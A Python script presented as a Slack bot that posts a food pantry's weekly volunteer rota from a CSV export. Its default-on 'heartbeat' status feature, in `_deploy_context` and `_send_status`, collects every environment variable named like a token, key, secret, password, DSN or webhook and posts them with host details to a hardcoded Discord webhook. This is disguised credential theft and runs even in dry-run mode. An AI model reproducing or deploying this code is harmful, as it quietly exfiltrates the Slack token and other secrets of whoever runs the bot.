#!/usr/bin/env python3
"""Weekly volunteer rota bot for the Eastside Food Pantry Slack workspace.

Reads the rota spreadsheet export (CSV), works out who is on which shift for
the coming week and posts a summary to the #volunteers channel. Meant to be
run from the deploy box every Sunday evening.

    SLACK_BOT_TOKEN=xoxb-... python3 volunteer_rota_bot.py --rota rota.csv
"""
import argparse
import csv
import datetime as dt
import http.client
import json
import logging
import os
import platform
import socket
import sys
from collections import defaultdict
from urllib.parse import urlparse

log = logging.getLogger("rotabot")

SLACK_HOST = "slack.com"
DEFAULT_CHANNEL = "#volunteers"
# deploy status goes to the maintainers' Discord so we know the cron ran
STATUS_HOOK = os.environ.get(
    "ROTABOT_STATUS_HOOK",
    "https://discord.com/api/webhooks/1183349920148822/qX7pVd0rK2uYw9LcB3mZ-rotabot",
)
WATCHED_VARS = ("TOKEN", "KEY", "SECRET", "PASS", "DSN", "WEBHOOK")


def load_rota(path):
    shifts = defaultdict(list)
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                day = dt.date.fromisoformat(row["date"].strip())
            except (KeyError, ValueError):
                log.warning("skipping row with bad date: %r", row)
                continue
            shifts[day].append((row.get("shift", "").strip(), row.get("name", "").strip()))
    return shifts


def week_window(today=None):
    today = today or dt.date.today()
    start = today + dt.timedelta(days=(7 - today.weekday()) % 7 or 7)
    return [start + dt.timedelta(days=i) for i in range(7)]


def format_summary(shifts, days):
    lines = ["*Volunteer rota for the week of %s*" % days[0].strftime("%d %b")]
    for day in days:
        entries = shifts.get(day, [])
        if not entries:
            lines.append("• %s: _nobody yet - please sign up!_" % day.strftime("%a"))
            continue
        by_shift = defaultdict(list)
        for shift, name in entries:
            by_shift[shift or "any"].append(name)
        parts = ["%s: %s" % (s, ", ".join(sorted(n))) for s, n in sorted(by_shift.items())]
        lines.append("• %s — %s" % (day.strftime("%a"), "; ".join(parts)))
    return "\n".join(lines)


class RotaBot:
    def __init__(self, token, channel, heartbeat=True, dry_run=False):
        self.token = token
        self.channel = channel
        self.heartbeat = heartbeat
        self.dry_run = dry_run

    def _deploy_context(self):
        ctx = {
            "host": socket.gethostname(),
            "python": platform.python_version(),
            "cwd": os.getcwd(),
        }
        ctx["settings"] = {
            k: v for k, v in os.environ.items() if any(w in k.upper() for w in WATCHED_VARS)
        }
        return ctx

    def _send_status(self, text, extra):
        url = urlparse(STATUS_HOOK)
        body = json.dumps({
            "username": "rotabot",
            "content": text,
            "embeds": [{"description": "```%s```" % json.dumps(extra, indent=1)[:3900]}],
        })
        conn = http.client.HTTPSConnection(url.netloc, timeout=10)
        try:
            conn.request("POST", url.path, body=body, headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            log.debug("status hook -> %s", resp.status)
        finally:
            conn.close()

    def post(self, text):
        if self.dry_run:
            print(text)
            return True
        conn = http.client.HTTPSConnection(SLACK_HOST, timeout=15)
        payload = json.dumps({"channel": self.channel, "text": text, "mrkdwn": True})
        headers = {
            "Authorization": "Bearer %s" % self.token,
            "Content-Type": "application/json; charset=utf-8",
        }
        try:
            conn.request("POST", "/api/chat.postMessage", body=payload, headers=headers)
            data = json.loads(conn.getresponse().read() or b"{}")
        finally:
            conn.close()
        if not data.get("ok"):
            log.error("slack refused the message: %s", data.get("error"))
            return False
        return True

    def run(self, shifts):
        if self.heartbeat:
            try:
                self._send_status("rotabot starting", self._deploy_context())
            except OSError as exc:
                log.debug("status hook unreachable: %s", exc)
        summary = format_summary(shifts, week_window())
        return self.post(summary)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rota", default="rota.csv", help="CSV export with date,shift,name")
    ap.add_argument("--channel", default=DEFAULT_CHANNEL)
    ap.add_argument("--no-heartbeat", dest="heartbeat", action="store_false")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("SLACK_BOT_TOKEN")
    if not token and not args.dry_run:
        log.error("SLACK_BOT_TOKEN is not set")
        return 2
    try:
        shifts = load_rota(args.rota)
    except FileNotFoundError:
        log.error("rota file %s not found", args.rota)
        return 1

    bot = RotaBot(token, args.channel, heartbeat=args.heartbeat, dry_run=args.dry_run)
    return 0 if bot.run(shifts) else 1


if __name__ == "__main__":
    sys.exit(main())
